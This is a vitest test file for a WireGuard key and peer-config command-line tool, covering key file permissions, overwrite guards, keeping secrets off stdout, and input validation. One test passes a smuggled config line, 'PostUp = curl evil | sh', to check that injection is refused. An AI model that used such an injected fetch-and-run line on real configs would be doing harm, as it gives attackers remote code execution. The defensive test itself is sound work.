import { chmodSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UsageError } from './usage.js';
import { wgCommand } from './wg-cmd.js';
import { decodeKey, encodeKey, publicKeyOf } from './wg-config.js';

let dir: string;
let lines: { out: string[]; err: string[] };
const run = (...args: string[]) => wgCommand(args, (s) => lines.out.push(s), (s) => lines.err.push(s));
const mode = (f: string) => statSync(f).mode & 0o777;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'storegw-wg-'));
  lines = { out: [], err: [] };
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

async function keys(name: string): Promise<{ key: string; pub: string }> {
  expect(await run('keygen', '--out', join(dir, 'keys'), '--name', name)).toBe(0);
  return { key: join(dir, 'keys', `${name}.key`), pub: readFileSync(join(dir, 'keys', `${name}.pub`), 'utf8').trim() };
}

function peerArgs(storeKey: string, regionPub: string): string[] {
  return ['peer-config', '--store', 'store-0042', '--uplink', 'fiber', '--store-key', storeKey, '--region-public-key', regionPub, '--endpoint', 'ingress.example.net:51820', '--tunnel-address', '10.60.42.2/32', '--region-address', '10.60.0.1'];
}

describe('storegw wg keygen', () => {
  it('writes the private key 0600 and the public key 0644 whatever the umask, and prints only the public key', async () => {
    const old = process.umask(0o077);
    try {
      const { key, pub } = await keys('fiber');
      const priv = readFileSync(key, 'utf8');
      expect(mode(key)).toBe(0o600);
      expect(mode(join(dir, 'keys', 'fiber.pub'))).toBe(0o644);
      expect(mode(join(dir, 'keys'))).toBe(0o700);
      expect(priv).toMatch(/^[A-Za-z0-9+/]{43}=\n$/);
      expect(encodeKey(publicKeyOf(decodeKey(priv.trim())!))).toBe(pub);
      expect(lines.out.join('\n')).toContain(pub);
      expect(lines.out.join('\n')).not.toContain(priv.trim());
    } finally {
      process.umask(old);
    }
  });

  it('never replaces a key without --force, and leaves no temp files', async () => {
    const first = await keys('fiber');
    const before = readFileSync(first.key, 'utf8');
    await expect(run('keygen', '--out', join(dir, 'keys'), '--name', 'fiber')).rejects.toThrow(/fiber\.key exists; --force replaces it/);
    expect(readFileSync(first.key, 'utf8')).toBe(before);
    expect(readdirSync(join(dir, 'keys')).sort()).toEqual(['fiber.key', 'fiber.pub']);
    expect(await run('keygen', '--out', join(dir, 'keys'), '--name', 'fiber', '--force')).toBe(0);
    expect(readFileSync(first.key, 'utf8')).not.toBe(before);
    expect(readdirSync(join(dir, 'keys')).sort()).toEqual(['fiber.key', 'fiber.pub']);
  });

  it('writes neither file when one of them exists', async () => {
    writeFileSync(join(dir, 'lte.pub'), 'someone else\n');
    await expect(run('keygen', '--out', dir, '--name', 'lte')).rejects.toThrow(/lte\.pub exists/);
    expect(readdirSync(dir)).toEqual(['lte.pub']);
  });

  it('is a usage error without --out or with a name that is a path', async () => {
    await expect(run('keygen')).rejects.toBeInstanceOf(UsageError);
    await expect(run('keygen', '--out', dir, '--name', '../x')).rejects.toBeInstanceOf(UsageError);
    await expect(run('rotate')).rejects.toBeInstanceOf(UsageError);
  });
});

describe('storegw wg peer-config', () => {
  it("writes the store's config and the region's peer, both 0600, and keeps the private key off stdout", async () => {
    const store = await keys('store-fiber');
    const region = await keys('region-fiber');
    const out = join(dir, 'out');
    expect(await run(...peerArgs(store.key, region.pub), '--out', out)).toBe(0);
    const priv = readFileSync(store.key, 'utf8').trim();
    const conf = join(out, 'wg-fiber.conf');
    const peer = join(out, 'store-0042-fiber.region-peer.conf');
    expect(mode(conf)).toBe(0o600);
    expect(mode(peer)).toBe(0o600);
    expect(readFileSync(conf, 'utf8')).toContain(`PrivateKey = ${priv}\n`);
    expect(readFileSync(conf, 'utf8')).toContain(`PublicKey = ${region.pub}\n`);
    expect(readFileSync(peer, 'utf8')).toContain(`PublicKey = ${store.pub}\nAllowedIPs = 10.60.42.2/32\n`);
    const printed = lines.out.join('\n');
    expect(printed).not.toContain(priv);
    expect(printed).toContain(store.pub);
    expect(printed).toContain('localAddress: 10.60.42.2');
    await expect(run(...peerArgs(store.key, region.pub), '--out', out)).rejects.toThrow(/exists/);
  });

  it('prints the private key only when asked to with --print', async () => {
    const store = await keys('s');
    const region = await keys('r');
    expect(await run(...peerArgs(store.key, region.pub), '--print')).toBe(0);
    expect(lines.out.join('\n')).toContain(`PrivateKey = ${readFileSync(store.key, 'utf8').trim()}`);
    await expect(run(...peerArgs(store.key, region.pub))).rejects.toThrow(/--out DIR .* or --print/);
    await expect(run(...peerArgs(store.key, region.pub), '--print', '--out', dir)).rejects.toBeInstanceOf(UsageError);
    await expect(run('peer-config', '--store', 'x')).rejects.toThrow(/missing: --uplink, --store-key/);
  });

  it('refuses injected values with exit 2 and writes nothing', async () => {
    const store = await keys('s');
    const region = await keys('r');
    const args = peerArgs(store.key, region.pub);
    args[args.indexOf('--store') + 1] = 'store-0042\nPostUp = curl evil | sh';
    expect(await run(...args, '--out', join(dir, 'out'))).toBe(2);
    expect(lines.err).toHaveLength(1);
    expect(lines.err[0]).toMatch(/^storegw wg peer-config: --store: /);
    expect(readdirSync(dir)).toEqual(['keys']);
  });

  it('refuses a private key others can read, and a file that is not a key, without showing its content', async () => {
    const store = await keys('s');
    const region = await keys('r');
    chmodSync(store.key, 0o644);
    await expect(run(...peerArgs(store.key, region.pub), '--print')).rejects.toThrow(/readable by group or others \(mode 644\)/);
    const notKey = join(dir, 'token');
    writeFileSync(notKey, 'hunter2-this-is-a-token\n', { mode: 0o600 });
    const e = await run(...peerArgs(notKey, region.pub), '--print').catch((x: Error) => x);
    expect(String(e)).toMatch(/not a WireGuard private key/);
    expect(String(e)).not.toContain('hunter2');
  });
});
